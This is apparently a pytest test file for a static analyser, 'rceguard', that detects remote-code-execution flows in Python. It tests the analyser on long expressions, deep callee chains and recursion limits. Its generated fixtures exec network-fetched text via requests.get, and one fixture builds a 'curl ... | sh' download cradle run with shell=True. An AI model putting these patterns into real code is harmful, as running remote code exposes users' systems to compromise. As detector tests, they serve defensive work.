"""Deeply nested code: a flow through a long expression or a long chain of callees is found, and
code nested beyond what the engine follows ends the analysis of that path, not the run
(engine.MAX_NESTING, engine._deep, FunctionAnalyzer.ex_BinOp)."""
from __future__ import annotations

import sys
from pathlib import Path

from rceguard.analysis import engine
from rceguard.config import Config
from rceguard.scan import scan


def _write(tmp_path: Path, name: str, lines: list) -> Path:
    p = tmp_path / name
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return p


def _long_sum(tmp_path: Path, terms: int, fetched: bool) -> Path:
    # generated code: a sum of many terms is a left-nested chain, one BinOp per `+`
    tail = " + ".join(f"x{i}" for i in range(terms))
    code = "requests.get(u).text" if fetched else "'print(1)'"
    return _write(tmp_path, "gen.py", ["import requests", "", "def run(u):", f"    code = {code}",
                                       f"    exec(code + {tail})"])


def _rules(result) -> list:
    return [(Path(f.location.path).name, f.location.line, f.rule_id) for f in result.findings]


def test_a_flow_through_a_sum_of_two_thousand_terms_is_found(tmp_path: Path) -> None:
    # the interpreter once recursed per term: RecursionError, and the file was reported as too
    # deeply nested with no finding
    result = scan([_long_sum(tmp_path, 2000, fetched=True)], Config())
    assert _rules(result) == [("gen.py", 5, "RCE001")]
    assert not result.notices


def test_a_long_sum_of_constants_is_not_reported(tmp_path: Path) -> None:
    result = scan([_long_sum(tmp_path, 2000, fetched=False)], Config())
    assert result.findings == [] and not result.notices


def test_a_download_cradle_split_over_a_long_concatenation_is_found(tmp_path: Path) -> None:
    # the text of a `+` chain is still assembled along the chain (a cradle spread over its parts)
    parts = " + ".join(["'curl -s '", "host", "' | sh'"] + [f"'#{i}'" for i in range(1500)])
    p = _write(tmp_path, "inst.py", ["import subprocess", "", "def go(host):",
                                     f"    subprocess.run({parts}, shell=True)"])
    assert _rules(scan([p], Config())) == [("inst.py", 4, "RCE004")]


def _chain(tmp_path: Path, n: int, fetched: bool) -> Path:
    """f0 execs what f1 returns, f1 what f2 returns ... f{n-1} returns network data (or a constant)."""
    lines = ["import requests", "", "def f0(u):", "    exec(f1(u))", ""]
    for i in range(1, n):
        lines += [f"def f{i}(u):", f"    return f{i + 1}(u)" if i < n - 1 else
                  ("    return requests.get(u).text" if fetched else "    return 'print(1)'"), ""]
    return _write(tmp_path, "chain.py", lines)


def test_a_flow_through_a_chain_of_120_callees_is_found(tmp_path: Path) -> None:
    # 120 nested analyses are more frames than Python's default recursion limit allows (it once
    # ended the analysis of the file with a "too deeply nested" notice)
    assert sys.getrecursionlimit() <= 1000 * 2  # (what the test is about: the limit as it is outside)
    result = scan([_chain(tmp_path, 120, fetched=True)], Config())
    assert _rules(result) == [("chain.py", 4, "RCE001")]
    assert not result.notices
    steps = result.findings[0].steps  # (the middle of a trace this long is cut: values.MAX_STEPS)
    assert steps[0].location.line == 3 * 119 + 4 and "requests.get(u)" in steps[0].message  # in f119
    assert steps[-1].location.line == 4


def test_a_chain_of_120_callees_returning_a_constant_is_not_reported(tmp_path: Path) -> None:
    result = scan([_chain(tmp_path, 120, fetched=False)], Config())
    assert result.findings == [] and not result.notices


def test_a_chain_deeper_than_the_nesting_limit_ends_without_an_error(tmp_path: Path, monkeypatch) -> None:
    # beyond MAX_NESTING a callee waits for the next round: the run ends normally (a flow that
    # long is not followed to its end), the recursion limit is never reached
    monkeypatch.setattr(engine, "MAX_NESTING", 10)
    monkeypatch.setattr(engine, "ANALYSIS_RECURSION_LIMIT", 1000)
    result = scan([_chain(tmp_path, 200, fetched=True)], Config())
    assert not result.notices
    assert result.files_scanned == 1


def test_the_nesting_limit_is_what_stops_a_long_chain(tmp_path: Path, monkeypatch) -> None:
    # without the limit, the same chain with the same recursion limit fails (the file gets a
    # "too deeply nested" notice): the limit, not luck, keeps the run going
    monkeypatch.setattr(engine, "MAX_NESTING", 10_000)
    monkeypatch.setattr(engine, "ANALYSIS_RECURSION_LIMIT", 1000)
    result = scan([_chain(tmp_path, 200, fetched=True)], Config())
    assert [n.message for n in result.notices] == ["too deeply nested to analyse (RecursionError)"]


def test_the_recursion_limit_is_restored_after_a_run(tmp_path: Path) -> None:
    before = sys.getrecursionlimit()
    scan([_chain(tmp_path, 5, fetched=True)], Config())
    assert sys.getrecursionlimit() == before


def test_an_error_in_the_analysis_thread_reaches_the_caller() -> None:
    def boom():
        raise KeyError("x")

    try:
        engine._deep(boom)
    except KeyError as exc:
        assert exc.args == ("x",)
    else:  # pragma: no cover
        raise AssertionError("the worker's exception was lost")


def test_a_summary_keeps_at_most_max_types_return_types_and_only_adds_to_them() -> None:
    from rceguard.analysis import types as T

    many = frozenset(f"inst:m.C{i:02d}" for i in range(3 * T.MAX_TYPES))
    first = T.widen(frozenset(), many)
    assert len(first) == T.MAX_TYPES and first == frozenset(sorted(many)[:T.MAX_TYPES])
    # once full it stays as it is, whatever the next analysis returns: the fixpoint can end
    other = frozenset(f"inst:m.D{i:02d}" for i in range(3 * T.MAX_TYPES))
    assert T.widen(first, other) == first
    # below the limit, what it had is kept and the room filled
    some = frozenset(["inst:m.Z"])
    assert T.widen(some, many) == some | frozenset(sorted(many)[:T.MAX_TYPES - 1])


def test_a_factory_of_many_classes_still_gives_its_objects_types(tmp_path: Path) -> None:
    # make() returns one of 12 classes: its summary keeps the first 8 (by name), and the method
    # call on its result still reaches the class that reads network data
    lines = ["import requests", ""]
    for i in range(12):
        body = "requests.get('https://example.com').text" if i == 0 else repr(f"x = {i}")
        lines += [f"class C{i:02d}:", "    def code(self):", f"        return {body}", ""]
    lines += ["def make(kind):"] + [f"    if kind == {i}:\n        return C{i:02d}()" for i in range(12)]
    lines += ["", "def run(kind):", "    exec(make(kind).code())", ""]
    p = _write(tmp_path, "factory.py", lines)
    line = p.read_text().splitlines().index("    exec(make(kind).code())") + 1
    assert _rules(scan([p], Config())) == [("factory.py", line, "RCE001")]
